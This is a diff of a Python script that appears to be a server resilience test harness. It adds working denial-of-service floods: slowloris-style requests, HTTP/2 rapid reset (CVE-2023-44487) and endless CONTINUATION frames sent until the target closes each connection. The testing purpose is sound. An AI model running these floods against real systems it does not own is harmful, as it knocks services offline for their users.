@@ -3,10 +3,11 @@
 headers, body   COUNT requests whose headers or body come a byte a second, for SECONDS; those with a body have the TOKEN of the environment
 silent          COUNT TCP connections that send no ClientHello, for SECONDS
 large           COUNT requests with 200 headers, on one connection each
-reset           COUNT HTTP/2 streams that are reset at once (CVE-2023-44487)
-continuation    COUNT HTTP/2 CONTINUATION frames of one request that never ends
+reset           HTTP/2 streams that are reset at once (CVE-2023-44487), on COUNT connections one after the other, each until the machine closes it
+continuation    HTTP/2 CONTINUATION frames of a request that never ends, in the same way
 """
 import collections
+import itertools
 import json
 import os
 import socket
@@ -18,11 +19,13 @@ import time
 kind, source, target, domain, count, *rest = sys.argv[1:]
 count, seconds = int(count), float(rest[0]) if rest else 0
 outcomes = collections.Counter()
+# For a machine and a host under load, seconds.
+PATIENCE = 30
 
 
 def tcp():
     s = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET)
-    s.settimeout(5)
+    s.settimeout(PATIENCE)
     s.bind((source, 0))
     s.connect((target, 443))
     return s
@@ -79,30 +82,27 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
 
 
 def http2(frames):
-    """Sends frames on a connection, and on the next when the machine closes it. A generator gets the number of each frame of a connection."""
-    sent = 0
-    while sent < count:
+    """Sends frames on COUNT connections, on each until the machine closes it. A generator gets the number of each frame of a connection."""
+    for _ in range(count):
         try:
             s = tls("h2")
-            outcomes["connections"] += 1
             s.sendall(PREFACE)
-            number = 0
-            while sent < count:
-                s.sendall(b"".join(frames(number + at) for at in range(50)))
-                number, sent = number + 50, sent + 50
+            for at in itertools.count(step=50):
+                s.settimeout(PATIENCE)
+                s.sendall(b"".join(frames(at + more) for more in range(50)))
+                outcomes["sent"] += 50
                 s.setblocking(False)
                 try:
                     while s.recv(65536):
                         pass
-                    raise ConnectionResetError
+                    break
                 except (BlockingIOError, ssl.SSLWantReadError):
-                    s.settimeout(5)
-            s.close()
+                    pass
+            outcomes["closed"] += 1
+        except TimeoutError:
+            outcomes["silent"] += 1
         except OSError:
             outcomes["closed"] += 1
-            if outcomes["closed"] > count:
-                break
-    outcomes["sent"] = sent
 
 
 if kind == "headers":
